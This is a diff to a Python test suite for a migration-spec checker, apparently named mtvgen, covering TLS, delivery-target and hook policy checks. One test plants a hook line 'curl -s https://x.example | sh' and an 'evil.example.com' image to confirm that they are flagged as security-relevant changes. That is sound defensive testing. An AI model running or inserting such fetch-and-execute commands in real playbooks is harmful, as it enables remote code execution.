@@ -84,14 +84,16 @@ def test_a_url_with_a_password_is_refused_and_never_echoed(tmp_path):
     assert "'https://***@[vc/sdk'" in found[0]["message"]
 
 
-def test_plain_http_and_unchecked_tls_are_named(tmp_path):
+def test_plain_http_and_unchecked_tls_are_errors_unless_the_policy_allows_them(tmp_path):
     _d, r, found = _spec_errors(tmp_path / "http", BASE_SPEC.replace("https://vc.example", "http://vc.example"))
     assert [(x["code"], x["severity"], x["line"]) for x in found] == [("MTV141", "error", 5)]
     spec_text = BASE_SPEC.replace("  vddkImage:", "  insecureSkipVerify: true\n  vddkImage:")
-    d = site(tmp_path / "tls", spec_text)
+    _d, r, found = _spec_errors(tmp_path / "tls", spec_text)
+    assert [(x["code"], x["severity"], x["line"]) for x in found] == [("MTV142", "error", 6)]
+    (tmp_path / "tls/sites/mtvgen-policy.yaml").write_text("allowInsecureTls: true\nallowHttp: true\n")
+    sitekit.lock(tmp_path / "tls/sites/t")
     r = run(["check", "sites/t", "--now", NOW], tmp_path / "tls")
-    assert r.exit_code == 0 and "sites/t/site.yaml:6:23: warning[MTV142]: source.insecureSkipVerify: true" in r.stdout
-    assert d.exists()
+    assert "sites/t/site.yaml:6:23: warning[MTV142]: source.insecureSkipVerify: true" in r.stdout
 
 
 def test_the_inventory_url_must_be_https_without_user_info(tmp_path):
@@ -123,7 +125,7 @@ def test_the_summary_shows_every_privileged_change_first(repo):
     spec_path = repo / "sites/dc1/site.yaml"
     text = spec_path.read_text()
     text = text.replace("image: quay.io/konveyor/hook-runner:latest", "image: evil.example.com/runner:1")
-    text = text.replace("serviceAccount: mtv-hooks", "serviceAccount: forklift-controller")
+    text = text.replace("serviceAccount: mtv-hooks", "serviceAccount: migration-admin")
     spec_path.write_text(text)
     playbook = repo / "sites/dc1/hooks/quiesce-db.yml"
     playbook.write_text(playbook.read_text() + "- hosts: localhost\n  tasks:\n    - shell: curl -s https://x.example | sh\n")
@@ -134,7 +136,7 @@ def test_the_summary_shows_every_privileged_change_first(repo):
     assert out.index("**Security-relevant changes**") < out.index("**What this change does**")
     assert "- Hook openshift-mtv/dc1-quiesce-db: image: `quay.io/konveyor/hook-runner:latest` → " \
            "`evil.example.com/runner:1`" in section
-    assert "- Hook openshift-mtv/dc1-quiesce-db: serviceAccount: `mtv-hooks` → `forklift-controller`" in section
+    assert "- Hook openshift-mtv/dc1-quiesce-db: serviceAccount: `mtv-hooks` → `migration-admin`" in section
     assert "  +    - shell: curl -s https://x.example | sh" in section
     assert "```diff" in section
 
@@ -189,3 +191,71 @@ def test_a_name_no_kubernetes_tool_writes_is_referenced_by_id_with_a_warning(tmp
     out = subprocess.run([KUBECTL, "kustomize", str(tmp_path / "out/t")], capture_output=True, text=True)
     assert out.returncode == 0, out.stderr                 # before: "yaml: control characters are not allowed"
     assert "- id: vm-1\n" in (tmp_path / "out/t/plans/wave1/plan/plan-t-wave1.yaml").read_text()
+
+
+def test_the_policy_defaults_refuse_what_one_site_must_not_choose(tmp_path):
+    argo = "delivery:\n  repoURL: https://git.example.com/m.git\n  path: {path}\n  argocd: {argo}\n"
+    cases = [
+        (argo.format(path="out/../docs", argo="{}"), "delivery.path 'out/../docs' leaves the repository's build output"),
+        (argo.format(path="elsewhere", argo="{}"), "delivery.path 'elsewhere' is not where mtvgen writes the build"),
+        (argo.format(path="out", argo="{project: default}"), "delivery.argocd.project is `default`"),
+        (argo.format(path="out", argo="{project: prod, createProject: false}"),
+         "delivery.argocd.project 'prod' is a project mtvgen does not create for this site"),
+        (argo.format(path="out", argo="{destination: {server: 'https://prod.example:6443'}}"),
+         "delivery.argocd.destination 'https://prod.example:6443' is another cluster"),
+        ("delivery:\n  repoURL: https://git.example.com/m.git\n  flux: {kubeConfigSecret: prod}\n",
+         "delivery.flux.kubeConfigSecret 'prod' picks another cluster's kubeconfig"),
+        ("mtvNamespace: kube-system\n", "mtvNamespace 'kube-system' is a system namespace"),
+    ]
+    for i, (extra, words) in enumerate(cases):
+        spec_text = BASE_SPEC.replace("networks:\n", extra + "networks:\n", 1)
+        _d, r, found = _spec_errors(tmp_path / str(i), spec_text)
+        assert r.exit_code == 1 and any(words in x["message"] for x in found), (words, found)
+        assert {x["code"] for x in found} == {"MTV144" if "Namespace" in extra else "MTV143"}
+    _d, r, found = _spec_errors(tmp_path / "ns", BASE_SPEC.replace("targetNamespace: apps", "targetNamespace: openshift-config"))
+    assert [x["code"] for x in found] == ["MTV144"]
+    hook = BASE_SPEC.replace("    image: quay.io/konveyor/hook-runner", "    image: quay.io/konveyor/hook-runner\n"
+                             "    serviceAccount: forklift-controller")
+    _d, r, found = _spec_errors(tmp_path / "hook", hook)
+    assert [x["code"] for x in found] == ["MTV145"]
+
+
+def test_a_policy_allows_and_narrows(tmp_path):
+    spec_text = BASE_SPEC.replace("networks:\n", "delivery:\n  repoURL: https://git.example.com/m.git\n"
+                                  "  argocd: {destination: {name: prod-east}}\n" + "networks:\n", 1)
+    d = sitekit.make(tmp_path, spec_text)
+    (tmp_path / "sites/mtvgen-policy.yaml").write_text("clusters: [prod-*]\nhookImages: ['registry.example.com/*']\n")
+    r = run(["check", "sites/t", "--now", NOW, "--format", "json"], tmp_path)
+    found = json.loads(r.stdout)["diagnostics"]
+    assert [x["code"] for x in found] == ["MTV145"] and "quay.io/konveyor/hook-runner" in found[0]["message"]
+    (tmp_path / "sites/mtvgen-policy.yaml").write_text("clusterz: [x]\n")
+    r = run(["check", "sites/t", "--now", NOW], tmp_path)
+    assert r.exit_code == 1 and "sites/mtvgen-policy.yaml" in r.output and "clusterz" in r.output
+    assert d.exists()
+
+
+def test_bounds_a_huge_or_deep_playbook_and_too_many_units(tmp_path):
+    big = "- hosts: localhost\n  tasks:\n" + "    - debug: {msg: " + "x" * 600_000 + "}\n"
+    d = site(tmp_path / "big", BASE_SPEC.replace("    image: quay.io/konveyor/hook-runner",
+                                                 "    image: quay.io/konveyor/hook-runner\n    playbook: pb.yml"))
+    (d / "pb.yml").write_text(big)
+    r = build(tmp_path / "big")
+    assert r.exit_code == 1 and "error[MTV053]: hook 'prep': pb.yml is 600," in r.stderr
+    (d / "pb.yml").write_text("- hosts: localhost\n  tasks: " + "[" * 3000 + "]" * 3000 + "\n")
+    r = build(tmp_path / "big")
+    assert r.exit_code == 1 and "error[MTV051]: hook 'prep': pb.yml is not a YAML list of plays (" in r.stderr
+    assert "internal error" not in r.stderr
+    from compiler import policy, spec
+    s = spec.load(d)
+    assert [(x.code, x.level) for x in policy.units(s, 1001)] == [("MTV146", "warning")]
+    assert [x.level for x in policy.units(s, 5001)] == ["error"] and list(policy.units(s, 1000)) == []
+
+
+def test_target_labels_are_kubernetes_labels(tmp_path):
+    spec_text = BASE_SPEC.replace("    preHook: prep", "    preHook: prep\n    targetLabels: {'app/x/y': ok, "
+                                  "'team': 'has space', 'tier.example.com/role': db}")
+    d = site(tmp_path, spec_text)
+    r = run(["check", "sites/t", "--now", NOW, "--format", "json"], tmp_path)
+    found = [x["message"] for x in json.loads(r.stdout)["diagnostics"] if x["code"] == "MTV026"]
+    assert len(found) == 2 and "'app/x/y'" in found[0] and "'has space'" in found[1]
+    assert d.exists()
